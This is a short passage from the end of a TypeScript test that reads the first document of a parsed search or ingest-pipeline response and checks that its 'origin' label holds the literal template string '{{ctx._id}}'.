    const doc = (json as { docs: { doc: { _source: { labels: Record<string, unknown> } } }[] }).docs[0]!.doc;
    expect(doc._source.labels['origin']).toBe('{{ctx._id}}');
  });
});
